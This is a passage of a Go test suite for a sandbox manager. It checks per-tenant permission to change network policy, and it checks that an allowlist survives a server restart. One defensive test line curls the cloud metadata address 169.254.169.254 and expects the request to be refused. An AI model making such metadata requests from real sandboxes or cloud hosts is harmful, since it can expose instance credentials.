	for _, nw := range []sandbox.Network{{Mode: "open"}, {Mode: "allowlist", Allow: []string{"other.test"}}} {
		if _, err := n.Manager.SetNetwork(ctx, acme, asb.ID, nw); errs.CodeOf(err) != errs.CodeForbidden {
			t.Errorf("acme set network %+v: %v; want forbidden", nw, err)
		}
	}
	// Another tenant's sandbox does not exist for acme.
	if _, err := n.Manager.SetNetwork(ctx, acme, sb.ID, sandbox.Network{Mode: "none"}); errs.CodeOf(err) != errs.CodeNotFound {
		t.Errorf("cross-tenant set network: %v; want not found", err)
	}
}

func asClientErr(err error, out **client.Error) bool {
	ce, ok := err.(*client.Error)
	if ok {
		*out = ce
	}
	return ok
}

func TestRestartKeepsNetwork(t *testing.T) {
	testenv.RequireRoot(t)
	l := newLab(t)
	dbDir := t.TempDir()
	open := func(o testenv.Options) (*network.Stack, *testenv.Env) {
		db, err := store.Open(dbDir, network.Migrations...)
		must(t, err)
		st, err := network.New(context.Background(), l.stackOptions(db))
		must(t, err)
		t.Cleanup(func() { st.Close(); db.Close() })
		o.Network = st
		return st, testenv.New(t, o)
	}
	st1, e1 := open(testenv.Options{})
	sb := e1.Create(sandbox.Spec{Network: &sandbox.Network{Mode: "allowlist", Allow: []string{"allowed.test"}}})
	if r := e1.Sh(sb.ID, curlNoPx+"http://allowed.test/"); !strings.Contains(r.Stdout, "hello") {
		t.Fatalf("before restart: %+v", r)
	}
	// A server exit: sandboxes keep running; interfaces and the table stay.
	_ = e1.Manager.Close(context.Background())
	e1.Manager = nil
	e1.Shutdown()
	st1.Close()
	st2, e2 := open(testenv.Options{DataDir: e1.Data, CgroupPrefix: e1.Prefix, UIDBase: e1.UIDBase})
	if _, ok := st2.Attachment(sb.ID); !ok {
		t.Fatal("the attachment was not reloaded")
	}
	n := &netEnv{Env: e2, lab: l, st: st2, dec: &decisions{}}
	n.ok(t, sb.ID, "after restart, allowed", curlNoPx+"http://allowed.test/", "hello from allowed.test")
	n.refused(t, sb.ID, "after restart, other", curlNoPx+"http://other.test/", "hello")
	n.refused(t, sb.ID, "after restart, metadata", curlNoPx+"http://169.254.169.254/", "METADATA")
	n.ok(t, sb.ID, "after restart, a policy change", "true", "")
	if _, err := e2.Client.SetNetwork(context.Background(), sb.ID, client.Network{Mode: "allowlist", Allow: []string{"other.test"}}); err != nil {
		t.Fatal(err)
	}
	n.ok(t, sb.ID, "after restart and a change", curlNoPx+"http://other.test/", "hello from other.test")
}
